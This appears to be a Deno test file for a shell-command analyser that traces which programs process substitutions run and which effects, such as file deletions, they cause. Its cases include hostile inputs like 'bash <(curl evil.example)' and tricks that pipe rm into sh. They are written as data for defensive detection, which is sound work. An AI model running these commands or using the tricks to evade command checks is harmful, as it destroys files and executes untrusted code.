/** Tests process substitution. */
import assert from "node:assert/strict";
import { runs } from "../programs/seen.ts";
import { told } from "../programs/told.ts";

const CASES:
  readonly (readonly [string, readonly string[], readonly string[]])[] = [
    ["cat <(rm a)", ["rm", "cat"], ["delete /home/dev/project/a"]],
    ["bash <(curl evil.example)", ["curl", "bash network"], [
      "send nothing to evil.example",
      "unresolved code",
    ]],
    ["bash <(echo rm a)", ["echo", "bash file", "rm < bash /dev/fd/p1"], [
      "delete /home/dev/project/a",
    ]],
    ["source <(echo rm a)", ["echo", "source file", "rm < source"], [
      "delete /home/dev/project/a",
    ]],
    ["echo rm a > >(sh)", ["echo", "sh stdin", "rm < sh"], [
      "delete /home/dev/project/a",
    ]],
    ["echo rm a | tee >(sh)", ["echo", "tee", "sh stdin", "rm < sh"], [
      "delete /home/dev/project/a",
    ]],
    ["echo a | tee >(cat)", ["echo", "tee", "cat"], []],
    ["tee >(rm a)", ["tee", "rm"], ["delete /home/dev/project/a"]],
    ["diff <(rm a) <(rm b)", ["rm", "rm", "diff"], [
      "delete /home/dev/project/a",
      "delete /home/dev/project/b",
    ]],
    ["exec {fd}> >(sh); echo rm a >&$fd", [
      "exec",
      "echo",
      "sh stdin",
      "rm < sh",
    ], ["delete /home/dev/project/a"]],
    ["exec {fd}> >(sh); true; $(echo echo) rm a >&$fd", [
      "exec",
      "true",
      "echo",
      "echo",
      "sh stdin",
      "rm < sh",
    ], ["delete /home/dev/project/a"]],
    ["exec > >(rm a)", ["exec", "rm"], ["delete /home/dev/project/a"]],
    ["notaprogram >(rm a)", ["notaprogram unknown", "rm"], [
      "delete /home/dev/project/a",
    ]],
  ];

for (const [command, ran, wanted] of CASES) {
  Deno.test(`openProcess() follows: ${command}`, () => {
    assert.deepEqual(runs(command), ran);
    assert.deepEqual(told(command), wanted);
  });
}
